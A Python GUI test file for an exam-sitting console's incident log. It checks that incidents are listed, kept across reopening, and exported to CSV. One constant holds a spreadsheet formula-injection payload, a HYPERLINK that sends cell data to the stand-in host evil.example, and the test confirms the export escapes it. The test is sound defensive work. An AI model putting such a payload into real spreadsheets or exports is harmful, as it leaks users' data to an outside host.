"""Incident log: incidents recorded on the real server, listed, and exported to a spreadsheet-safe CSV."""

from __future__ import annotations

import csv
from datetime import datetime, timedelta
from pathlib import Path

from PySide6.QtCore import QDateTime
from pytestqt.qtbot import QtBot

from player.csv_export import ENCODING
from player.ui.console.incidents import IncidentsView
from player.ui.console.sittings import SittingContext
from sync import staff_protocol as sp
from tests.helpers.clock import START
from tests.helpers.console import Chooser, text_at
from tests.helpers.waiting import TIMEOUT_MS

EVIL_NOTE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'


def open_view(qtbot: QtBot, context: SittingContext, chooser: Chooser) -> IncidentsView:
    view = IncidentsView(context, choose_save_path=chooser.save)
    qtbot.addWidget(view)
    view.show()
    qtbot.waitUntil(lambda: view.students.count() == 3, timeout=TIMEOUT_MS)
    return view


def local_minute(when: datetime) -> str:
    return when.astimezone().strftime("%Y-%m-%d %H:%M")


def record(
    qtbot: QtBot, view: IncidentsView, *, kind: str, at: datetime, students: list[str], note: str
) -> sp.IncidentOut:
    view.kind_box.setCurrentIndex(view.kind_box.findData(kind))
    view.time_edit.setDateTime(QDateTime(at.astimezone()))
    for name in students:
        view.tick_student(name)
    view.note_edit.setPlainText(note)
    with qtbot.waitSignal(view.added, timeout=TIMEOUT_MS) as blocker:
        view.add_button.click()
    incident = blocker.args[0]
    assert isinstance(incident, sp.IncidentOut)
    return incident


def test_incidents_are_listed_and_exported_as_safe_csv(
    qtbot: QtBot, context: SittingContext, chooser: Chooser, tmp_path: Path
) -> None:
    view = open_view(qtbot, context, chooser)
    assert view.table.rowCount() == 0
    assert view.time_edit.dateTime().toPython() == START.astimezone().replace(tzinfo=None), "defaults to now"

    illness = record(
        qtbot,
        view,
        kind="illness",
        at=START - timedelta(minutes=3),
        students=["Ada Lovelace", "Grace Hopper"],
        note="Felt faint; went to the office with a TA",
    )
    assert sorted(illness.students) == ["Ada Lovelace", "Grace Hopper"]
    assert view.message.text().startswith("Recorded: Illness at ")
    assert view.ticked_allocations() == [], "the form is cleared for the next incident"
    record(qtbot, view, kind="other", at=START, students=[], note=EVIL_NOTE)
    assert view.table.rowCount() == 2
    assert text_at(view.table, 0, 1) == "Illness"
    assert text_at(view.table, 1, 2) == "Whole room"

    path = tmp_path / "log.csv"
    chooser.paths.append(path)
    with qtbot.waitSignal(view.exported, timeout=TIMEOUT_MS):
        view.export_button.click()
    assert chooser.suggested == ["Demo sitting incidents.csv"]
    assert view.message.text() == f"Saved 2 incidents to {path}."
    with path.open(encoding=ENCODING, newline="") as f:
        header, first, second = list(csv.reader(f))
    assert header == ["Time", "Kind", "Students affected", "Note", "Recorded by", "Recorded at"]
    assert first[:2] == [local_minute(START - timedelta(minutes=3)), "Illness"]
    assert sorted(first[2].split("; ")) == ["Ada Lovelace", "Grace Hopper"]
    assert first[3] == "Felt faint; went to the office with a TA"
    assert first[4] == illness.recorded_by != ""
    assert second[:3] == [local_minute(START), "Other", "Whole room"]
    assert second[3] == "'" + EVIL_NOTE, "a spreadsheet shows the note as text and never runs it"


def test_the_log_is_there_when_the_view_opens_again(qtbot: QtBot, context: SittingContext, chooser: Chooser) -> None:
    view = open_view(qtbot, context, chooser)
    record(qtbot, view, kind="fire_alarm", at=START, students=[], note="Drill; everyone out for 12 minutes")
    view.close()
    again = open_view(qtbot, context, chooser)
    qtbot.waitUntil(lambda: again.table.rowCount() == 1, timeout=TIMEOUT_MS)
    assert text_at(again.table, 0, 1) == "Fire alarm"
    assert text_at(again.table, 0, 3) == "Drill; everyone out for 12 minutes"


def test_other_without_a_note_asks_for_one_and_sends_nothing(
    qtbot: QtBot, context: SittingContext, chooser: Chooser
) -> None:
    view = open_view(qtbot, context, chooser)
    view.kind_box.setCurrentIndex(view.kind_box.findData("other"))
    view.add_button.click()
    assert view.error.text().startswith("Write a note saying what happened")
    assert context.tasks.is_idle(), "nothing went to the server"
    assert view.table.rowCount() == 0
